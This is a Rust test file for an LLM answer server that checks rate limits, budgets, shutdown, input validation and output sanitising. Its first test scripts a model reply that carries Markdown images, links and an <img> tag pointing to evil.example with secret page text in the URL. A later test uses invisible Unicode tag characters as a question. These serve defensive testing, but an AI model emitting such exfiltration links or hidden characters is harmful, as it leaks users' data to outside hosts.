//! `serve` under abuse, through its HTTP API: a link streamed piece by piece never leaves, one
//! caller's flood is refused (429) while another is served and the provider sees no more than
//! the quota, caller-chosen model names never become metric labels, an answer cut at shutdown
//! says so, bodies that are not JSON are 415, two credentials of one kind are 401, a question of
//! invisible characters is 422 before any model call, and a provider's garbage never reaches
//! the caller.

use crate::provider::{answer, streamed_answer, usage, Reply};
use crate::server::{client, error_of, sse_events, start, ADMIN, STAFF};
use serde_json::{json, Value};
use std::time::{Duration, Instant};

fn claims_of(sub: &str) -> String {
    json!({"sub": sub, "memberships": [{"domain": "acme", "role": "business_staff"}]}).to_string()
}

/// A link, image or raw HTML in `text` as a Markdown client renders it.
fn fetchable(text: &str) -> Option<String> {
    use pulldown_cmark::{Event, Parser, Tag};
    Parser::new(text).find_map(|event| match event {
        Event::Start(Tag::Image { dest_url, .. } | Tag::Link { dest_url, .. }) => {
            Some(dest_url.to_string())
        }
        Event::Html(html) | Event::InlineHtml(html) => Some(html.to_string()),
        _ => None,
    })
}

#[tokio::test(flavor = "multi_thread")]
async fn a_link_split_across_token_events_never_goes_out() {
    let s = start(
        vec![],
        &[("SCOPE_CHECK", "false"), ("SEARCH_FIRST", "false")],
    )
    .await;
    s.provider.then_forever(streamed_answer(
        &[
            "The lobby ",
            "![logo](https://evil.exa",
            "mple/c?d=SECRET-PAGE",
            "-TEXT) is open; see [the ",
            "page](http://evil.example/p?q=SECRET",
            "-TWO) or <img src=\"https://evil.example/",
            "SECRET-THREE\">.",
        ],
        usage(20, 8),
        Duration::from_millis(10),
    ));
    let response = s
        .ask(
            Some(STAFF),
            json!({"question": "Is the lobby open?", "stream": true}),
        )
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 200);
    let text = response.text().await.unwrap();
    let events = sse_events(&text);
    let mut streamed = String::new();
    for (name, data) in &events {
        if name == "token" {
            let piece: Value = serde_json::from_str(data).unwrap();
            streamed.push_str(piece["text"].as_str().unwrap());
            // At every point, what a Markdown client renders fetches nothing: no link or image
            // to the host, no raw HTML. (An escaped tag shows its text, as the final answer.)
            assert_eq!(fetchable(&streamed), None, "{streamed}");
        }
    }
    assert!(streamed.contains("[image: logo]"), "{streamed}");
    assert!(streamed.contains("&lt;img"), "{streamed}");
    let done: Value = serde_json::from_str(&events.last().unwrap().1).unwrap();
    assert_eq!(fetchable(done["answer"].as_str().unwrap()), None, "{done}");
}

/// The load test: one caller floods at ten times its quota while another asks once a second.
#[tokio::test(flavor = "multi_thread")]
async fn one_caller_flooding_is_limited_while_another_is_served() {
    let s = start(
        vec![],
        &[
            ("SCOPE_CHECK", "false"),
            ("SEARCH_FIRST", "false"),
            ("REQUESTS_PER_MINUTE", "30"),
        ],
    )
    .await;
    s.provider.then_forever(answer("Open.", usage(5, 1)));
    let (flood, quiet) = (claims_of("flood"), claims_of("quiet"));
    let started = Instant::now();
    let mut flood_tasks = Vec::new();
    let mut quiet_tasks = Vec::new();
    // Eight seconds: the flood at 5 requests a second (10 × 30 a minute), the quiet caller at 1.
    for tick in 0..40u64 {
        let request = s
            .ask(Some(&flood), json!({"question": "Is the lobby open?"}))
            .send();
        flood_tasks.push(tokio::spawn(request));
        if tick % 5 == 0 {
            let request = s
                .ask(Some(&quiet), json!({"question": "Is the lobby open?"}))
                .send();
            quiet_tasks.push(tokio::spawn(request));
        }
        tokio::time::sleep_until((started + Duration::from_millis(200 * (tick + 1))).into()).await;
    }
    let mut flood_ok = 0;
    let mut flood_limited = 0;
    for task in flood_tasks {
        let response = task.await.unwrap().unwrap();
        match response.status().as_u16() {
            200 => flood_ok += 1,
            429 => {
                assert!(response.headers().contains_key("retry-after"));
                let (_, code) = error_of(response).await;
                assert_eq!(code, "rate_limited");
                flood_limited += 1;
            }
            other => panic!("flood got {other}"),
        }
    }
    for task in quiet_tasks {
        assert_eq!(task.await.unwrap().unwrap().status(), 200);
    }
    assert_eq!(flood_ok, 30, "the quota, and no more");
    assert_eq!(flood_limited, 10);
    // One model call per answer: the provider saw the quota plus the quiet caller's eight.
    assert_eq!(s.provider.requests().len(), 30 + 8);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_callers_answers_in_flight_are_bounded_and_others_still_get_in() {
    let s = start(
        vec![],
        &[
            ("SCOPE_CHECK", "false"),
            ("SEARCH_FIRST", "false"),
            ("MAX_IN_FLIGHT_PER_CALLER", "2"),
        ],
    )
    .await;
    s.provider.then_forever(Reply::Delay(
        Duration::from_millis(600),
        Box::new(answer("Open.", usage(5, 1))),
    ));
    let greedy = claims_of("greedy");
    let running: Vec<_> = (0..2)
        .map(|_| {
            tokio::spawn(
                s.ask(Some(&greedy), json!({"question": "Is it open?"}))
                    .send(),
            )
        })
        .collect();
    tokio::time::sleep(Duration::from_millis(200)).await;
    let third = s
        .ask(Some(&greedy), json!({"question": "Is it open?"}))
        .send()
        .await
        .unwrap();
    assert_eq!(
        error_of(third).await,
        (429, "too_many_answers_in_flight".to_string())
    );
    let other = s
        .ask(Some(STAFF), json!({"question": "Is it open?"}))
        .send()
        .await
        .unwrap();
    assert_eq!(other.status(), 200);
    for task in running {
        assert_eq!(task.await.unwrap().unwrap().status(), 200);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_spent_token_budget_is_429_and_a_request_budget_stops_the_loop() {
    let s = start(
        vec![],
        &[
            ("SCOPE_CHECK", "false"),
            ("SEARCH_FIRST", "false"),
            ("TOKENS_PER_HOUR", "1000"),
        ],
    )
    .await;
    s.provider.then_forever(answer("Open.", usage(900, 200)));
    let first = s
        .ask(Some(STAFF), json!({"question": "Is it open?"}))
        .send()
        .await
        .unwrap();
    assert_eq!(first.status(), 200);
    let second = s
        .ask(Some(STAFF), json!({"question": "Is it open?"}))
        .send()
        .await
        .unwrap();
    assert!(second.headers().contains_key("retry-after"));
    assert_eq!(error_of(second).await, (429, "budget_spent".to_string()));
    assert_eq!(s.provider.requests().len(), 1);

    // Per request: a model that keeps calling tools is stopped before the call that would
    // pass MAX_TOKENS_PER_REQUEST, with a stated decision.
    let t = start(
        vec![],
        &[
            ("SCOPE_CHECK", "false"),
            ("SEARCH_FIRST", "false"),
            ("MAX_TOKENS_PER_REQUEST", "5000"),
        ],
    )
    .await;
    t.provider.then_forever(crate::provider::tool_calls(
        &[("c1", "search_docs", r#"{"query":"lobby"}"#)],
        usage(2000, 20),
    ));
    let response = t
        .ask(Some(STAFF), json!({"question": "Is it open?"}))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 200);
    let body: Value = response.json().await.unwrap();
    assert_eq!(body["decision"], "budget_exhausted", "{body}");
    assert!(
        body["usage"]["total_tokens"].as_u64().unwrap() <= 5000,
        "{body}"
    );
    assert_eq!(t.provider.requests().len(), 2);
}

#[tokio::test(flavor = "multi_thread")]
async fn caller_chosen_model_names_never_become_metric_labels() {
    let (dir, db) = crate::search::open_and_staff_pages();
    let provider = crate::provider::ScriptedProvider::start(vec![]).await;
    provider.then_forever(answer("Open.", usage(5, 1)));
    let (_serve, base) = crate::observe::serve(
        dir.path(),
        &db,
        &provider,
        &[("ANSWER_MODEL", "configured/model")],
    )
    .await;
    for i in 0..40 {
        let response = client()
            .post(format!("{base}/ask"))
            .header("x-gateway-claims", ADMIN)
            .json(&json!({"question": "Is it open?", "model": format!("random/model-{i}")}))
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), 200);
    }
    let text = reqwest::get(format!("{base}/metrics"))
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(!text.contains("random/model"), "a caller's name is a label");
    assert!(
        text.contains("agent_llm_tokens_total{model=\"other\""),
        "{text}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn answers_cut_at_shutdown_say_so() {
    let mut s = start(
        vec![],
        &[
            ("SCOPE_CHECK", "false"),
            ("SEARCH_FIRST", "false"),
            ("SHUTDOWN_GRACE_SECONDS", "0.5"),
        ],
    )
    .await;
    s.provider.then_forever(Reply::Delay(
        Duration::from_secs(30),
        Box::new(answer("Too late.", usage(5, 1))),
    ));
    let json_answer = tokio::spawn(s.ask(Some(STAFF), json!({"question": "slow"})).send());
    let streamed = tokio::spawn(
        s.ask(Some(STAFF), json!({"question": "slow", "stream": true}))
            .send(),
    );
    tokio::time::sleep(Duration::from_millis(300)).await;
    s.stop.take().unwrap().send(()).unwrap();
    let response = json_answer.await.unwrap().unwrap();
    assert!(response.headers().contains_key("retry-after"));
    assert_eq!(error_of(response).await, (503, "shutting_down".to_string()));
    let stream = streamed.await.unwrap().unwrap();
    assert_eq!(stream.status(), 200);
    let events = sse_events(&stream.text().await.unwrap());
    let (last, data) = events.last().unwrap();
    assert_eq!(last, "error");
    assert!(data.contains("shutting_down"), "{data}");
    let stopped = tokio::time::timeout(Duration::from_secs(5), &mut s.server).await;
    assert!(matches!(stopped, Ok(Ok(Ok(())))), "{stopped:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn bodies_must_be_json_credentials_single_and_questions_visible() {
    let secret = "a-development-secret-of-32-bytes!";
    let s = start(vec![], &[("EVAL_JWT_SECRET", secret)]).await;
    s.provider.then_forever(answer("Open.", usage(5, 1)));
    let body = r#"{"question":"Is the lobby open?"}"#;
    for content_type in [
        Some("text/plain"),
        Some("application/x-www-form-urlencoded"),
        Some("multipart/form-data; boundary=x"),
        None,
    ] {
        for route in ["ask", "ingest"] {
            let mut request = client()
                .post(format!("{}/{route}", s.url))
                .header("x-gateway-claims", ADMIN)
                .body(body);
            if let Some(value) = content_type {
                request = request.header("content-type", value);
            }
            let response = request.send().await.unwrap();
            assert_eq!(
                error_of(response).await,
                (415, "unsupported_media_type".to_string()),
                "{route} {content_type:?}"
            );
        }
    }
    let with_charset = client()
        .post(format!("{}/ask", s.url))
        .header("x-gateway-claims", STAFF)
        .header("content-type", "application/json; charset=utf-8")
        .body(body)
        .send()
        .await
        .unwrap();
    assert_eq!(with_charset.status(), 200);

    // Two tokens of one kind: in one Cookie header, or in two Cookie headers.
    let token = |sub: &str| {
        crowdvision_agent::auth::jwt::sign_hs256(
            &json!({"sub": sub, "roles": ["admin"], "exp": chrono::Utc::now().timestamp() + 60}),
            secret.as_bytes(),
        )
    };
    let cookie = |sub: &str| format!("authentication_token={}", token(sub));
    let one_header = client()
        .post(format!("{}/ask", s.url))
        .header("cookie", format!("{}; {}", cookie("a"), cookie("b")))
        .json(&json!({"question": "Is the lobby open?"}))
        .send()
        .await
        .unwrap();
    assert_eq!(one_header.status(), 401);
    let two_headers = client()
        .post(format!("{}/ask", s.url))
        .header("cookie", cookie("a"))
        .header("cookie", cookie("b"))
        .json(&json!({"question": "Is the lobby open?"}))
        .send()
        .await
        .unwrap();
    assert_eq!(two_headers.status(), 401);

    let calls_before = s.provider.requests().len() + s.provider.topic_checks().len();
    for invisible in [
        "\u{200B}\u{200D}\u{FEFF}",
        "\u{E0041}\u{E0042}",
        " \u{2060}\n",
    ] {
        let response = s
            .ask(Some(STAFF), json!({"question": invisible}))
            .send()
            .await
            .unwrap();
        assert_eq!(
            error_of(response).await,
            (422, "question_empty".to_string())
        );
    }
    assert_eq!(
        s.provider.requests().len() + s.provider.topic_checks().len(),
        calls_before,
        "an empty question reached the provider"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_providers_garbage_never_reaches_the_caller() {
    let s = start(
        vec![],
        &[
            ("SCOPE_CHECK", "false"),
            ("SEARCH_FIRST", "false"),
            ("LLM_MAX_RETRIES", "0"),
        ],
    )
    .await;
    let garbage = Reply::Raw {
        status: 200,
        content_type: "application/json",
        body: "\"GARBAGE-d41d8cd98f00b204e9800998ecf8427e\"".to_string(),
        retry_after: None,
    };
    s.provider.then_forever(garbage);
    for stream in [false, true] {
        let response = s
            .ask(
                Some(STAFF),
                json!({"question": "Is the lobby open?", "stream": stream}),
            )
            .send()
            .await
            .unwrap();
        let text = response.text().await.unwrap();
        assert!(!text.contains("GARBAGE"), "{text}");
        assert!(text.contains("provider_error"), "{text}");
    }
}
